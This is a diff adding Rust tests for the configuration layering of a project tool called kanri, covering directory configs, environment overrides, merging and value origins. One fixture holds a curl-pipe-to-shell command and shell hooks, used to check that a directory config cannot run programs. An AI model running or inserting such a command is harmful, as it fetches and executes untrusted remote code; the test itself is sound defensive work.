@@ -0,0 +1,221 @@
+use std::{fs, path::PathBuf};
+
+use crate::{
+    config::Config,
+    layers::{ConfigLayer, ConfigOrigin, find_directory_config},
+    tests::TestContext,
+};
+
+const USER_CONFIG: &str = r#"
+[options]
+projects_directory = "/home/user/Projects"
+current_profile = "default"
+
+[options.linux]
+projects_directory = "/home/user/linux"
+
+[profiles.default]
+editor = "nvim"
+shell = "bash"
+
+[profiles.default.linux]
+shell = "zsh"
+
+[profiles.work]
+extends = "default"
+editor = "code"
+"#;
+
+const DIRECTORY_CONFIG: &str = r#"
+[options]
+projects_directory = "/work/projects"
+current_profile = "work"
+
+[autocomplete]
+always_accept = false
+"#;
+
+const UNSAFE_DIRECTORY_CONFIG: &str = r#"
+[options]
+display_hidden = true
+
+[profiles.default]
+editor = "sh"
+shell = "sh"
+terminal = ["sh", "-c", "curl example.com | sh"]
+
+[hooks]
+post_open = ["sh"]
+
+[editors.nvim]
+programs = ["sh"]
+"#;
+
+fn env(vars: &[(&str, &str)]) -> Vec<(String, String)> {
+    vars.iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()))
+        .collect()
+}
+
+fn directory_layer() -> ConfigLayer {
+    ConfigLayer {
+        origin: ConfigOrigin::Directory(PathBuf::from("/work/.kanri.toml")),
+        table: DIRECTORY_CONFIG.parse().unwrap(),
+    }
+}
+
+/// The directory layer with environment layers on top of it.
+fn layers(vars: &[(&str, &str)]) -> Vec<ConfigLayer> {
+    let mut layers = vec![directory_layer()];
+    layers.extend(ConfigLayer::from_env(env(vars), &Config::env_schema()).unwrap());
+    layers
+}
+
+fn load(layers: Vec<ConfigLayer>) -> Config {
+    Config::from_layers(toml::from_str(USER_CONFIG).unwrap(), layers, "linux").unwrap()
+}
+
+#[test]
+fn test_layers_from_env() {
+    let layers = ConfigLayer::from_env(
+        env(&[
+            ("KANRI_OPTIONS_DISPLAY_HIDDEN", "yes"),
+            ("KANRI_OPTIONS_CURRENT_PROFILE", "42"),
+            ("KANRI_PROJECT_NAME", "alpha"),
+            ("KANRI_CONFIG", "/tmp/config.toml"),
+            ("PATH", "/usr/bin"),
+        ]),
+        &Config::env_schema(),
+    )
+    .unwrap();
+
+    assert_eq!(layers.len(), 2);
+    assert_eq!(
+        layers[1].origin,
+        ConfigOrigin::Env("KANRI_OPTIONS_DISPLAY_HIDDEN".to_string())
+    );
+    assert_eq!(layers[1].table["options"]["display_hidden"], true.into());
+    assert_eq!(layers[0].table["options"]["current_profile"], "42".into());
+}
+
+#[test]
+fn test_layers_from_env_errors() {
+    let schema = Config::env_schema();
+    let unknown = ConfigLayer::from_env(env(&[("KANRI_OPTIONS_COLOR", "1")]), &schema);
+    assert!(unknown.unwrap_err().to_string().contains("options.color"));
+
+    let bad_bool = ConfigLayer::from_env(env(&[("KANRI_AUTOCOMPLETE_ENABLED", "maybe")]), &schema);
+    assert!(
+        bad_bool
+            .unwrap_err()
+            .to_string()
+            .contains("KANRI_AUTOCOMPLETE_ENABLED")
+    );
+}
+
+#[test]
+fn test_layers_find_directory_config() {
+    let context = TestContext::setup();
+    let nested = context.path().join("a/b");
+    fs::create_dir_all(&nested).unwrap();
+    assert_eq!(find_directory_config(&nested), None);
+
+    let path = context.path().join("a/.kanri.toml");
+    fs::write(&path, DIRECTORY_CONFIG).unwrap();
+    assert_eq!(find_directory_config(&nested), Some(path.clone()));
+
+    let (layer, ignored) = ConfigLayer::load_directory(&path).unwrap();
+    assert_eq!(layer.origin, ConfigOrigin::Directory(path));
+    assert_eq!(layer.table, directory_layer().table);
+    assert!(ignored.is_empty());
+}
+
+#[test]
+fn test_layers_directory_cannot_run_programs() {
+    let context = TestContext::setup();
+    let path = context.path().join(".kanri.toml");
+    fs::write(&path, UNSAFE_DIRECTORY_CONFIG).unwrap();
+
+    let (layer, ignored) = ConfigLayer::load_directory(&path).unwrap();
+    assert_eq!(ignored, ["profiles", "hooks", "editors"]);
+    assert_eq!(layer.table.keys().collect::<Vec<_>>(), ["options"]);
+
+    let config = load(vec![layer]);
+    assert!(config.options.display_hidden);
+    assert!(config.hooks.post_open.is_empty());
+    assert!(config.editors.is_empty());
+    let default = config.get_profile("default").unwrap();
+    assert_eq!(default.editor, "nvim".into());
+    assert_eq!(default.shell, "zsh");
+    assert!(default.terminal.is_empty());
+}
+
+#[test]
+fn test_layers_merge() {
+    let config = load(vec![directory_layer()]);
+    // Layers override OS sections of the configuration file.
+    assert_eq!(
+        config.options.projects_directory,
+        PathBuf::from("/work/projects")
+    );
+    assert_eq!(config.options.current_profile, "work");
+    assert!(!config.autocomplete.always_accept);
+
+    let config = load(layers(&[(
+        "KANRI_OPTIONS_PROJECTS_DIRECTORY",
+        "/env/projects",
+    )]));
+    assert_eq!(
+        config.options.projects_directory,
+        PathBuf::from("/env/projects")
+    );
+}
+
+#[test]
+fn test_layers_origin() {
+    let config = load(layers(&[("KANRI_RECENT_ENABLED", "0")]));
+    let directory = ConfigOrigin::Directory(PathBuf::from("/work/.kanri.toml"));
+
+    assert_eq!(
+        config.value_origin(&["options", "current_profile"]),
+        directory
+    );
+    assert_eq!(
+        config.value_origin(&["options", "display_hidden"]),
+        ConfigOrigin::Default
+    );
+    assert_eq!(
+        config.value_origin(&["recent", "enabled"]),
+        ConfigOrigin::Env("KANRI_RECENT_ENABLED".to_string())
+    );
+    assert_eq!(
+        config.value_origin(&["profiles", "default", "editor"]),
+        ConfigOrigin::File
+    );
+    assert_eq!(
+        config.value_origin(&["autocomplete", "always_accept"]),
+        directory
+    );
+
+    let config = load(Vec::new());
+    // Values from OS sections come from the file too.
+    assert_eq!(
+        config.value_origin(&["profiles", "default", "shell"]),
+        ConfigOrigin::File
+    );
+}
+
+#[test]
+fn test_layers_not_saved() {
+    let mut config = load(layers(&[("KANRI_OPTIONS_DISPLAY_HIDDEN", "true")]));
+    let expected = {
+        let mut table: toml::Table = USER_CONFIG.parse().unwrap();
+        table["profiles"]["default"]["editor"] = "hx".into();
+        table
+    };
+
+    config.profiles.get_mut("default").unwrap().editor = "hx".into();
+    let table = config.to_table().unwrap();
+    assert_eq!(table["options"], expected["options"]);
+    assert_eq!(table["profiles"], expected["profiles"]);
+}